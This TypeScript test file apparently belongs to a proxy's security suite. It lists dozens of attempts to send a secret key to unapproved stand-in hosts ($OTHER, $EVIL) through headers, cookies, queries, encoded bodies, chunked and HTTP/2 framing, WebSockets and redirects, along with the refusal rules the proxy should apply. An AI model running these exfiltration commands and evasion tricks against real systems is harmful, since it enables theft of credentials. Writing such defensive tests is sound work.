/** The placeholder on its way to a host that is allowed but not approved for it, in every place and spelling. */
import { gunzipSync } from "node:zlib";
import { either, gotKey, refusal, requested, type Attack, type AttackTable, type Success } from "../attack.ts";

const toOther = { row: 1, succeeded: requested("other"), ...refusal("secret-not-approved") } as const;

/** A place in a request to `other`. */
const inRequest = (name: string, python: string): Attack => ({ ...toOther, name, python });

const gotCompressedKey: Success = ({ listeners, key }) =>
  listeners.other.requests.some(({ body }) => body[0] === 0x1f && gunzipSync(body).toString().includes(key))
    ? "other got the key, compressed"
    : undefined;

/** More than the proxy reads before it begins to send: the head has gone, the key must not follow. */
const late = { row: 1, succeeded: gotKey("other"), rule: "secret-not-approved" } as const;

export const secrets: AttackTable = {
  title: "A key to a host that is not approved for it",
  prefix: "s",
  attacks: [
    inRequest("bearer header", `request(OTHER, headers=bearer())`),
    inRequest("header of its own", `request(OTHER, headers=[("X-Api-Key", KEY)])`),
    inRequest("two header lines", `request(OTHER, headers=[("X-A", "1"), ("X-A", KEY)])`),
    {
      row: 1,
      name: "name of a header: names have no case, so it holds nothing of worth",
      python: `request(OTHER, headers=[("X-" + KEY, "1")])`,
      succeeded: gotKey("other"),
    },
    inRequest("cookie", `request(OTHER, headers=[("Cookie", "a=b; session=" + KEY)])`),
    inRequest(
      "user agent and referer",
      `request(OTHER, headers=[("User-Agent", KEY), ("Referer", "https://" + HOST + "/" + KEY)])`,
    ),
    inRequest("proxy authorization", `request(OTHER, headers=[("Proxy-Authorization", "Bearer " + KEY)])`),
    inRequest("Basic, as password", `request(OTHER, headers=basic("user", KEY))`),
    inRequest("Basic, as user", `request(OTHER, headers=basic(KEY, ""))`),
    inRequest(
      "Basic, odd case and blanks",
      `request(OTHER, headers=[("AUTHORIZATION", "bAsIc   " + base64.b64encode((":" + KEY).encode()).decode())])`,
    ),
    inRequest(
      "Base64 in a header",
      `request(OTHER, headers=[("X-Note", base64.b64encode(b"x" + KEY.encode()).decode())])`,
    ),
    inRequest("hexadecimal in a header", `request(OTHER, headers=[("X-Note", KEY.encode().hex())])`),
    inRequest("query", `request(OTHER, "/?key=" + urllib.parse.quote(KEY, safe=""))`),
    inRequest("query, every byte escaped", `request(OTHER, "/?key=" + "".join("%%%02x" % b for b in KEY.encode()))`),
    inRequest(
      "query, some bytes escaped",
      `request(OTHER, "/?" + "".join(chr(b) if i % 3 and chr(b).isalnum() else "%%%02X" % b for i, b in enumerate(KEY.encode())))`,
    ),
    inRequest("query, escaped twice", `request(OTHER, "/?key=" + "".join("%%25%02x" % b for b in KEY.encode()))`),
    inRequest("query in Base64", `request(OTHER, "/?key=" + base64.urlsafe_b64encode(b"??" + KEY.encode()).decode())`),
    inRequest("path", `request(OTHER, "/collect/" + urllib.parse.quote(KEY, safe=""))`),
    inRequest("path of another method", `request(OTHER, "/" + urllib.parse.quote(KEY, safe=""), method="DELETE")`),
    inRequest("body", `request(OTHER, body="here it is: " + KEY)`),
    inRequest(
      "JSON body, escaped",
      `request(OTHER, headers=[("Content-Type", "application/json")], body='{"k":"' + "".join("\\\\u%04x" % b for b in KEY.encode()) + '"}')`,
    ),
    inRequest(
      "form",
      `request(OTHER, headers=[("Content-Type", "application/x-www-form-urlencoded")], body=urllib.parse.urlencode({"k": KEY}))`,
    ),
    inRequest("body in Base64", `request(OTHER, body=base64.b64encode(KEY.encode()))`),
    inRequest("body in Base64, not aligned", `request(OTHER, body=base64.b64encode(b"zz" + KEY.encode() + b"z"))`),
    inRequest("body in hexadecimal", `request(OTHER, body=KEY.encode().hex().upper())`),
    {
      ...toOther,
      name: "multipart form by curl",
      bash: `curl -sS -m 8 -F "file=@-;filename=x" https://$OTHER/ <<<"$KEY"`,
    },
    {
      ...toOther,
      name: "Expect: 100-continue",
      bash: `curl -sS -m 8 --http1.1 -H "Expect: 100-continue" --data-binary "$KEY" https://$OTHER/`,
    },
    { ...toOther, name: "user in the URL by curl", bash: `curl -sS -m 8 -u "$KEY:" https://$OTHER/` },
    {
      ...toOther,
      name: "by node",
      limit: 90_000,
      bash: `OTHER=$OTHER node -e 'fetch("https://" + process.env.OTHER, { headers: { authorization: "Bearer " + process.env.KEY } }).then((r) => r.text()).then(console.log, (e) => console.log(String(e.cause)))'`,
    },
    {
      ...toOther,
      name: "by deno",
      limit: 90_000,
      bash: `OTHER=$OTHER deno eval 'console.log(await (await fetch("https://" + Deno.env.get("OTHER"), { method: "POST", body: Deno.env.get("KEY") })).text())'`,
    },
    {
      ...late,
      name: "chunked body, cut inside the key",
      python: String.raw`
middle = len(KEY) // 2
chunk = lambda text: ("%x\r\n%s\r\n" % (len(text), text)).encode()
start = ("POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" % OTHER).encode()
talk(tls(OTHER), start + chunk("a" * 10 + KEY[:middle]), chunk(KEY[middle:]) + b"0\r\n\r\n", pause=0.2)`,
    },
    {
      ...late,
      name: "chunked body, one byte a chunk",
      python: String.raw`
start = ("POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n" % OTHER).encode()
talk(tls(OTHER), start + b"".join(b"1\r\n%c\r\n" % b for b in KEY.encode()) + b"0\r\n\r\n")`,
    },
    {
      row: 1,
      succeeded: gotKey("other"),
      name: "trailer: it is not sent on",
      python: String.raw`
talk(tls(OTHER), "POST / HTTP/1.1\r\nHost: %s\r\nTransfer-Encoding: chunked\r\nTrailer: X-Key\r\nConnection: close\r\n\r\n1\r\na\r\n0\r\nX-Key: %s\r\n\r\n" % (OTHER, KEY))`,
    },
    { ...late, name: "at the end of a long body", python: `request(OTHER, body="a" * 300000 + KEY)` },
    {
      row: 1,
      name: "compressed body: nobody reads it, so it holds nothing of worth",
      python: `request(OTHER, headers=[("Content-Encoding", "gzip")], body=gzip.compress(KEY.encode()))`,
      succeeded: gotCompressedKey,
    },
    {
      row: 1,
      name: "bytes that are not HTTP: nobody reads them, so they hold nothing of worth",
      python: `talk(tcp(OTHER, 9000), "\\x00" + KEY)`,
      succeeded: gotKey("other"),
    },
    {
      ...toOther,
      name: "HTTP/2 header",
      python: `h2(OTHER, fields(OTHER, more=[("authorization", "Bearer " + KEY)]))`,
    },
    {
      ...toOther,
      name: "HTTP/2 cookie in crumbs",
      python: `h2(OTHER, fields(OTHER, more=[("cookie", "a=b"), ("cookie", "c=" + KEY)]))`,
    },
    {
      ...late,
      name: "HTTP/2 body over two frames",
      python: `
s = H2(OTHER)
s.open(1, fields(OTHER, method="POST"), end=False)
s.send(H2.frame(DATA, 0, 1, KEY[:20].encode()))
time.sleep(0.2)
s.send(H2.frame(DATA, END_STREAM, 1, KEY[20:].encode()))
s.hear(until=1)`,
    },
    {
      ...late,
      name: "HTTP/2 trailers",
      python: `
s = H2(OTHER)
s.open(1, fields(OTHER, method="POST"), end=False)
s.send(H2.frame(DATA, 0, 1, b"a"))
s.open(1, field("x-key", KEY))
s.hear(until=1)`,
    },
    { ...toOther, name: "WebSocket handshake", python: `web_socket(OTHER, headers=bearer())` },
    { ...late, name: "WebSocket message", python: `web_socket(OTHER, frames=[ws_frame("take " + KEY)])` },
    {
      ...late,
      name: "WebSocket message in fragments",
      python: `web_socket(OTHER, frames=[ws_frame("take " + KEY[:9], fin=False), ws_frame(KEY[9:], opcode=0)])`,
    },
    { ...late, name: "WebSocket ping", python: `web_socket(OTHER, frames=[ws_frame(KEY[:125], opcode=9)])` },
    {
      row: 1,
      name: "approved host, but without TLS",
      python: `request(HOST, headers=bearer(), scheme="http")`,
      succeeded: requested("host"),
      ...refusal("secret-needs-https"),
    },
    {
      row: 1,
      name: "host that is not allowed at all",
      bash: `curl -sS -m 8 -H "authorization: Bearer $KEY" https://$EVIL/`,
      succeeded: requested("evil"),
      rule: "host-not-allowed",
    },
    {
      row: 1,
      name: "approved name in the URL's user part",
      bash: `curl -sS -m 8 "https://$HOST@$OTHER/?k=$(jq -rn --arg k "$KEY" '$k|@uri')"`,
      succeeded: requested("other"),
      ...refusal("secret-not-approved"),
    },
    {
      row: 15,
      name: "redirect from the approved host to another allowed one, header kept",
      bash: `curl -sS -m 8 -L --location-trusted -H "authorization: Bearer $KEY" "https://$HOST/redirect?to=https://$OTHER/"`,
      succeeded: requested("other"),
      ...refusal("secret-not-approved"),
    },
    {
      row: 15,
      name: "redirect from the approved host to one that is not allowed",
      bash: `curl -sS -m 8 -L --location-trusted -H "authorization: Bearer $KEY" "https://$HOST/redirect?to=https://$EVIL/"`,
      succeeded: either(requested("evil")),
      rule: "host-not-allowed",
    },
    {
      row: 15,
      name: "redirect from the approved host to itself without TLS",
      bash: `curl -sS -m 8 -L --location-trusted -H "authorization: Bearer $KEY" "https://$HOST/redirect?to=http://$HOST/plain"`,
      succeeded: ({ listeners }) =>
        listeners.host.requests.some(({ target }) => target === "/plain") ? "the key went without TLS" : undefined,
      ...refusal("secret-needs-https"),
    },
  ],
};
